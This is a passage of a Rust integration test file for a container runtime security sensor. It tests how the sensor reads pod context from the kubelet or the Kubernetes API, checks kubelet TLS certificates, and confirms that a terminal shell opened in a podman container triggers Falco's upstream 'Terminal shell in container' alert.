        "spec": {"nodeName": "node-a", "containers": [{"name": "app", "image": "web:1"}]},
        "status": {"containerStatuses": [{"name": "app", "image": "web:1",
            "containerID": format!("containerd://{}", "a".repeat(64))}]}});
    let server = FixtureServer::start(vec![pod]).unwrap();
    let url = server.kubeconfig("k").split('"').nth(1).unwrap().to_owned();
    dir.write("fixture.kubeconfig", &server.kubeconfig("fixture"));
    dir.write("kubelet-token", "node-reader-token\n");
    let sensor = |source: &[&str]| {
        let mut args = vec![
            "sensor",
            "-v",
            "--collector",
            "proc-connector",
            "--no-existing",
            "--no-resources",
            "--node-name",
            "node-a",
            "--duration",
            "0",
        ];
        args.extend_from_slice(source);
        let run = dir.run(&args);
        assert_eq!(run.code, 0, "{}", run.stderr);
        run.stderr
    };
    let stderr = sensor(&[
        "--kubelet",
        &url,
        "--kubelet-token-file",
        "kubelet-token",
        "--kubeconfig",
        "nowhere.kubeconfig",
    ]);
    assert!(
        stderr.contains(&format!(
            "pod context: 1 pods on node node-a from the kubelet at {url}"
        )),
        "{stderr}"
    );
    assert_eq!(server.requests(), ["GET /pods HTTP/1.1"]);
    assert_eq!(server.authorizations(), ["Bearer node-reader-token"]);

    let stderr = sensor(&[
        "--kubelet",
        "http://127.0.0.1:1",
        "--kubeconfig",
        "fixture.kubeconfig",
    ]);
    assert!(
        stderr.contains("no pod context from the kubelet at http://127.0.0.1:1")
            && stderr.contains("pod context: 1 pods on node node-a from the Kubernetes API"),
        "{stderr}"
    );
}

/// The kubelet over TLS (openssl's `s_server -WWW` serving a PodList as `/pods`): its
/// certificate is checked against --kubelet-ca and for the name the URL or
/// --kubelet-tls-server-name gives, unless verification is turned off.
#[test]
fn kubelet_over_tls_is_verified_against_its_ca() {
    use harrier_k8s::cluster::pods::{KubeletOptions, read_kubelet_pods};

    if !have("openssl") {
        let _: Option<()> = skip("openssl is not installed");
        return;
    }
    let dir = Dir::new();
    let pki = harrier_serve::testing::Pki::generate("kubelet").unwrap();
    let files = pki.write(dir.path()).unwrap();
    let list = format!(
        r#"{{"kind": "PodList", "apiVersion": "v1", "metadata": {{}}, "items": [{{"metadata": {{"name": "web-1", "namespace": "prod", "uid": "u1"}},
            "spec": {{"containers": [{{"name": "app", "image": "web:1"}}]}},
            "status": {{"containerStatuses": [{{"name": "app", "containerID": "containerd://{}"}}]}}}}]}}"#,
        "b".repeat(64)
    );
    dir.write("pods", &list);
    let port = std::net::TcpListener::bind("127.0.0.1:0")
        .unwrap()
        .local_addr()
        .unwrap()
        .port();
    let mut server = Command::new("openssl")
        .args(["s_server", "-quiet", "-WWW", "-accept"])
        .arg(format!("127.0.0.1:{port}"))
        .arg("-cert")
        .arg(&files.server_cert)
        .arg("-key")
        .arg(&files.server_key)
        .current_dir(dir.path())
        .stdin(Stdio::null())
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .spawn()
        .unwrap();
    let until = Instant::now() + Duration::from_secs(20);
    while std::net::TcpStream::connect(("127.0.0.1", port)).is_err() {
        assert!(Instant::now() < until, "openssl s_server did not listen");
        std::thread::sleep(Duration::from_millis(20));
    }
    let kubelet = |host: &str| KubeletOptions {
        url: format!("https://{host}:{port}"),
        ..KubeletOptions::default()
    };
    let verified = KubeletOptions {
        ca_file: Some(files.ca.clone()),
        ..kubelet("127.0.0.1")
    };
    let pods = read_kubelet_pods(&verified).unwrap();
    assert_eq!(pods.container(&"b".repeat(12)).unwrap().pod.name, "web-1");
    // Unknown CA.
    let err = read_kubelet_pods(&kubelet("127.0.0.1"))
        .unwrap_err()
        .to_string();
    assert!(err.contains(&format!("https://127.0.0.1:{port}")), "{err}");
    // The right CA, the wrong name; then the name given.
    let renamed = |name: &str| KubeletOptions {
        tls_server_name: Some(name.to_owned()),
        ..verified.clone()
    };
    assert!(read_kubelet_pods(&renamed("node-a.example")).is_err());
    assert!(read_kubelet_pods(&renamed("localhost")).is_ok());
    // Verification off.
    let insecure = KubeletOptions {
        insecure_skip_tls_verify: true,
        ..kubelet("127.0.0.1")
    };
    assert_eq!(read_kubelet_pods(&insecure).unwrap().pods(), 1);
    let _ = server.kill();
    let _ = server.wait();
}

/// A shell with a terminal in a container (`podman run -t`, then `podman exec -t`), seen by
/// each collector, raises Falco's own "Terminal shell in container" from the upstream
/// falco_rules.yaml: the events carry `proc.tty`, from the kernel's task (eBPF) or
/// `/proc/<pid>/stat` (proc connector), and the process's start time.
#[test]
fn a_terminal_shell_in_a_container_raises_falcos_upstream_rule() {
    let Some(()) = can_run_sensor() else { return };
    let Some(rules) = harrier_core::testing::corpus_path(
        env!("CARGO_MANIFEST_DIR"),
        "runtime-rules/falco-rules/rules/falco_rules.yaml",
    ) else {
        return;
    };
    let dir = Dir::new();
    let Some(pm) = podman(&dir) else { return };
    for collector in ["ebpf", "proc-connector"] {
        let alerts_path = dir.path().join(format!("tty-alerts-{collector}.jsonl"));
        let alerts_arg = alerts_path.to_str().unwrap();
        let mut sensor = start(
            &dir,
            &[
                "--collector",
                collector,
                "--syscalls",
                "openat",
                "--rules",
                rules.to_str().unwrap(),
                "--alerts",
                alerts_arg,
            ],
            Some(&pm.conf),
        );
        let name = format!("harrier-tty-{collector}-{}", std::process::id());
        let cid = pm.run_with(
            &dir,
            &name,
            &["-d", "-t"],
            &["/bin/bash", "-c", "sleep 2; sleep 6"],
        );
        let exec = Command::new("podman")
            .env("CONTAINERS_CONF", &pm.conf)
            // It lives on a second, so that the proc connector finds it in /proc.
            .args([
                "exec",
                "-t",
                &name,
                "/bin/sh",
                "-c",
                "cat /etc/hostname; sleep 1",
            ])
            .stdin(Stdio::null())
            .output()
            .unwrap();
        assert!(exec.status.success(), "{exec:?}");
        let shell = sensor.wait_for("exec of the exec'd sh", |v| {
            v["type"] == "execve" && in_container(v, &cid) && v["process"]["name"] == "sh"
        });
        assert!(
            shell["process"]["tty"].as_i64().is_some_and(|t| t > 0),
            "{shell}"
        );
        assert!(
            shell["process"]["start_ns"].as_i64().is_some_and(|s| s > 0),
            "{shell}"
        );
        let until = Instant::now() + Duration::from_secs(30);
        let terminal_shells = loop {
            let alerts = read_alerts(&alerts_path);
            let found: Vec<Value> = of_container(&alerts, &cid)
                .into_iter()
                .filter(|a| a["rule"] == "Terminal shell in container")
                .cloned()
                .collect();
            if found.len() >= 2 || Instant::now() > until {
                break found;
            }
            std::thread::sleep(Duration::from_millis(200));
        };
        let shells: Vec<&str> = terminal_shells
            .iter()
            .filter_map(|a| a["output_fields"]["proc.name"].as_str())
            .collect();
        assert!(
            shells.contains(&"bash") && shells.contains(&"sh"),
            "{collector}: {terminal_shells:?}"
        );
        assert!(
            terminal_shells
                .iter()
                .all(|a| a["output_fields"]["proc.tty"]
                    .as_str()
                    .and_then(|t| t.parse::<i64>().ok())
                    .is_some_and(|t| t > 0)),
            "{terminal_shells:?}"
        );
        let status = stop_with(&mut sensor, "TERM");
        assert!(status.success(), "{collector}: {status}");
    }
}
